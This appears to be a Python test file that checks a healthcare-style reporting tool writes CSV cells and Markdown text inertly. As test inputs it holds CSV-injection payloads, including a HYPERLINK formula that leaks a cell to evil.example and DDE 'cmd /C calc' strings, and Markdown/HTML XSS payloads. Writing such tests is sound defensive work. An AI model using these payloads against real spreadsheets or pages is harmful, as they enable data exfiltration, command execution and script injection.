"""What d2a writes for spreadsheets and Markdown viewers is inert there (issue 22, section 6):
a name, a ward or an organisation code that starts like a formula is written as text (OWASP's
CSV injection advice: a leading `'`), and Markdown shows what people typed as exactly that
text: never a link, an image fetched from elsewhere, emphasis or raw HTML."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml

from d2a_tui.cli import main
from d2a_tui.domain.cells import FORMULA_START, markdown_text, spreadsheet_cell
from d2a_tui.domain.display import terminal_text
from d2a_tui.reports.tables import Report, Table, to_csv
from d2a_tui.services import printing as board_print
from d2a_tui.services.hub import Hub
from tests.conftest import refer_someone

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Ada")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE = "![x](http://evil.example/p.png) <img src=x onerror=alert(1)> [here](http://evil.example)"


def markdown() -> MarkdownIt:
    return MarkdownIt("commonmark", {"html": True}).enable("table")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_report_writes_formulas_as_text_and_numbers_as_numbers(formula: str) -> None:
    report = Report(
        "services",
        "Services",
        {},
        (Table("t", "t", ("Service", "Gap"), ((formula, -3), ("Meadowbank", 2.5))),),
    )
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    # The leading ' keeps it text; a control character in it is shown, never written raw.
    assert rows[1] == ["'" + terminal_text(formula), "-3"]
    assert rows[2] == ["Meadowbank", "2.5"]


def test_the_sitrep_submission_refuses_a_formula_for_an_organisation_code(
    database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    organisation = "=cmd|' /C calc'!A0"
    code = main(
        ["report", "sitrep", "--format", "submission", "--org", organisation, "--db", database_url]
    )
    out, err = capsys.readouterr()
    # An organisation code is an ODS code: a formula never reaches the file at all.
    assert (code, out) == (1, "") and err.startswith("d2a: ") and "ODS code" in err
    code = main(
        ["report", "sitrep", "--format", "submission", "--org", "RXX", "--db", database_url]
    )
    out, err = capsys.readouterr()
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))[1:]
    assert rows and all(row[0] == "RXX" for row in rows)
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row[1:-1])


@given(st.text(max_size=40))
def test_no_cell_starts_a_formula_unless_it_is_a_plain_number(value: str) -> None:
    cell = spreadsheet_cell(value)
    if cell.startswith(FORMULA_START):
        float(cell)  # a negative number, left a number
    assert cell in (value, "'" + value)


def test_the_markdown_board_shows_hostile_text_as_text(hub: Hub) -> None:
    refer_someone(hub, 1, name=HOSTILE, ward="Ward *7* <b>")
    page = board_print.render(board_print.from_hub(hub, ""), "markdown")
    shown = markdown().render(page)
    assert "<img" not in shown and "<a " not in shown and "<b>" not in shown
    assert "<td>" + escapeHtml(HOSTILE)[:27] in shown  # the name, as typed (cut to fit)
    assert "Ward *7* &lt;b&gt;"[:12] in shown


@given(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40).map(
        lambda text: "".join(c if c.isprintable() else " " for c in text).strip(" ")
    )
)
def test_any_text_reads_back_as_itself_in_markdown(text: str) -> None:
    rendered = markdown().render(markdown_text(text))
    if not text:
        assert rendered == ""
        return
    assert rendered == f"<p>{escapeHtml(text)}</p>\n"
